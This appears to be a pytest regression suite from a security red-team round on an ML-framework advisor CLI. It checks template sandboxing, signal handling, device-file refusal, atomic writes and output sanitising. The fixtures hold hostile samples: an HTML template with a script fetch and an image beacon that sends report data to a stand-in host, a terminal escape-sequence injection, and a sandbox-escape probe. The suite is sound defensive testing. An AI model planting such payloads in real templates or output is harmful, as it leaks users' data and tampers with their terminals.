"""Red-team round 69 (security): addresses through filters, a stop after the publish,
devices opened before the refusal, line numbers of CR-only files, scripts in a custom HTML
template, a temporary file left by SIGKILL, and escapes in `advisor --version`."""

from __future__ import annotations

import fcntl
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hostile_support import run

from advisor.cli import version
from advisor.io import safe_read, safe_write
from advisor.model.errors import InputError
from advisor.report.render import POLICY_META, with_policy

ADDRESS = re.compile(r"0x[0-9a-fA-F]{6,}|[0-9a-fA-F]{6,}x0")  # written or reversed
ROOT = Path(__file__).resolve().parents[1]

TRANSFORMS = (
    "{{ report.items|string|reverse }}\n"
    "{{ (report.items|string)|replace('0x', '0y') }}\n"
    "{{ '%s'|format(report.items)|upper }}\n"
    "{{ (report.items ~ '')|list|join('-') }}\n"
    "{{ report.items|pprint }}\n"
    "{{ lipsum|string }} {{ (report.items|string)[-14:] }}\n"
    "{{ '{}'.format(report.items) }} {{ '%r' % report.items }}\n"
    "{{ cycler(1, 2)|string }} {{ joiner(',')|string }} {{ [3, 1]|reverse|string }}\n"
    "{{ [1, 2]|map('string')|string }} {{ report|attr('keys')|string }}\n"
)
STILL_WORKS = (
    "{% set c = cycler('x', 'y') %}{{ c.next() }}{{ c.next() }} "
    "{% set j = joiner('+') %}{{ j() }}a{{ j() }}b "
    "{% for i in [3, 1, 2]|sort|reverse %}{{ i }}{% endfor %} "
    "{{ [1, 2, 3]|map('string')|join(',') }} {{ report.items is callable }} "
    "{% for k, v in report.items() %}{% if loop.first %}first={{ k }}{% endif %}{% endfor %}\n"
)


@pytest.mark.parametrize("suffix", ["md", "html"])
def test_no_filter_turns_an_object_into_its_address(tmp_path: Path, suffix: str) -> None:
    """Finding 1: round 68 hid the address of an object printed whole, but `|string`, `~`,
    `|pprint`, `%` and `.format` made its text first, which any slicing or reversing then
    carried into the report."""
    template = tmp_path / f"t.{suffix}.j2"
    template.write_text(TRANSFORMS + STILL_WORKS)
    result = run("recommend", "--example", "student-starter", "--probes", "none",
                 "--template", str(template), cwd=tmp_path)  # fmt: skip
    assert result.code == 0, result.err
    assert not ADDRESS.search(result.out), result.out
    assert "built-in method items of dict object" in result.out  # the kind is still shown
    assert "xy a+b 321 1,2,3 True first=" in result.out  # objects still work as objects


def test_a_template_cannot_reach_past_the_wrapper(tmp_path: Path) -> None:
    """The wrapper is not a way around the sandbox: its attributes are the real object's,
    checked as before."""
    template = tmp_path / "t.md.j2"
    template.write_text("{{ report.items.__self__ }}\n")
    result = run("recommend", "--example", "student-starter", "--probes", "none",
                 "--template", str(template), cwd=tmp_path)  # fmt: skip
    assert result.code == 2, result.out
    assert "0x" not in result.err


def _full_pipe() -> tuple[int, int]:
    read_end, write_end = os.pipe()
    flags = fcntl.fcntl(write_end, fcntl.F_GETFL)
    fcntl.fcntl(write_end, fcntl.F_SETFL, flags | os.O_NONBLOCK)
    try:
        while True:
            os.write(write_end, b"x" * 4096)
    except BlockingIOError:
        pass
    fcntl.fcntl(write_end, fcntl.F_SETFL, flags)
    return read_end, write_end


def test_a_stop_after_the_publish_says_what_was_written(tmp_path: Path) -> None:
    """Finding 2: SIGTERM landing after the report was published (here: while the advisor
    waits on a full stderr to say "wrote") said "nothing was written" with --force, while
    the old report was already replaced."""
    out = tmp_path / "r.md"
    out.write_text("OLD REPORT\n")
    read_end, write_end = _full_pipe()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "advisor", "recommend", "--example", "student-starter",
         "--probes", "none", "-o", str(out), "--force"],
        stderr=write_end, stdout=subprocess.DEVNULL, env=env, cwd=tmp_path,
    )  # fmt: skip
    os.close(write_end)
    deadline = time.monotonic() + 60
    while out.read_text().startswith("OLD") and time.monotonic() < deadline:
        time.sleep(0.02)
    time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    data = b""
    while chunk := os.read(read_end, 65536):
        data += chunk
    os.close(read_end)
    assert proc.wait(timeout=60) == 128 + signal.SIGTERM
    message = data.replace(b"x", b"").decode()
    assert "stopped by SIGTERM after writing" in message, message
    assert "nothing was written" not in message
    assert out.read_text().startswith("# ")


def test_a_device_is_refused_without_being_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 3: the reader opened a path before learning it was a device; opening a serial
    port resets the board behind it, and /dev/watchdog arms a reboot."""
    opened: list[str] = []
    real_open = os.open

    def spy(path: str, *args: object, **kwargs: object) -> int:
        opened.append(os.fspath(path))
        return real_open(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(safe_read.os, "open", spy)
    with pytest.raises(InputError, match="character device"):
        safe_read.read_bytes("/dev/null")
    assert opened == []


def test_invalid_utf8_in_a_file_of_lone_cr_lines_names_its_line(tmp_path: Path) -> None:
    """Finding 4: the line of a bad byte counted only \\n, so a file whose lines end with a
    lone \\r always said line 1."""
    for ending, name in ((b"\r", "cr.yaml"), (b"\r\n", "crlf.yaml"), (b"\n", "lf.yaml")):
        path = tmp_path / name
        lines = [b"purpose: both", b"domains: []", b'project: {name: "\xff"}']
        path.write_bytes(ending.join(lines))
        with pytest.raises(InputError) as info:
            safe_read.read_text(path)
        assert info.value.line == 3, name


def test_a_custom_html_template_gets_the_reports_content_policy(tmp_path: Path) -> None:
    """Finding 5: a template from someone else could add <script> or a remote <img> to the
    HTML report and send its data away when the report is opened; the output now starts
    with the bundled report's content policy, after its doctype."""
    template = tmp_path / "t.html.j2"
    template.write_text(
        "<!DOCTYPE html><html><body><script>fetch('https://x.example')</script>"
        "<img src='https://x.example/p.gif?c={{ report.source.command|urlencode }}'>"
        "</body></html>\n"
    )
    result = run("recommend", "--example", "student-starter", "--probes", "none",
                 "--template", str(template), cwd=tmp_path)  # fmt: skip
    assert result.code == 0, result.err
    meta = POLICY_META
    assert result.out.startswith("<!DOCTYPE html>" + meta)
    assert result.out.index(meta) < result.out.index("<script")
    assert with_policy("<p>x</p>").startswith(meta)  # no doctype: first of all
    bundled = (ROOT / "templates" / "report.html.j2").read_text()
    assert meta in bundled  # one policy for the bundled report and custom ones


def test_no_named_temporary_file_exists_while_the_report_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Finding 6: a SIGKILL while the report was written (the OOM killer, a CI hard kill)
    left '.advisor-XXXX.tmp' behind; where Linux offers O_TMPFILE the file has no name until
    it is complete."""
    probe = safe_write._open_unnamed(str(tmp_path))
    if probe is None:
        pytest.skip("no O_TMPFILE here")
    os.close(probe)
    seen: list[list[str]] = []
    real_fsync = os.fsync

    def look(fd: int) -> None:
        seen.append(sorted(p.name for p in tmp_path.iterdir()))
        real_fsync(fd)

    monkeypatch.setattr(safe_write.os, "fsync", look)
    target = tmp_path / "r.md"
    safe_write.write_atomic(str(target), "new")
    target.chmod(0o600)
    safe_write.write_atomic(str(target), "newer", force=True)
    assert seen == [[], ["r.md"]]  # nothing named but the old report while writing
    assert target.read_text() == "newer"
    assert target.stat().st_mode & 0o777 == 0o600  # --force keeps a private report private
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.md"]


def test_version_output_is_inert(monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 7: a distribution's Version: metadata (or the interpreter's path) holding
    escape sequences set the terminal's title and cleared the screen."""
    monkeypatch.setattr(
        version, "framework_versions", lambda: {"PyTorch": "2.0\x1b]0;PWNED\x07\x1b[2J"}
    )
    text = version.version_text()
    assert "\x1b" not in text and "\x07" not in text
    assert "PyTorch 2.0" in text


def test_a_hidden_rule_file_in_a_pack_is_refused(tmp_path: Path) -> None:
    """Noted in round 69: a dotfile rule file (`.sneaky.yaml`, hidden from `ls`) was read
    with the pack's visible ones, so its rules could veto a framework unseen."""
    pack = tmp_path / "pk"
    pack.mkdir()
    (pack / ".sneaky.yaml").write_text("rules: []\n")
    result = run("rules", "check", "pk", cwd=tmp_path)
    assert result.code == 2, result.out
    assert "a hidden rule file" in result.err and ".sneaky.yaml" in result.err
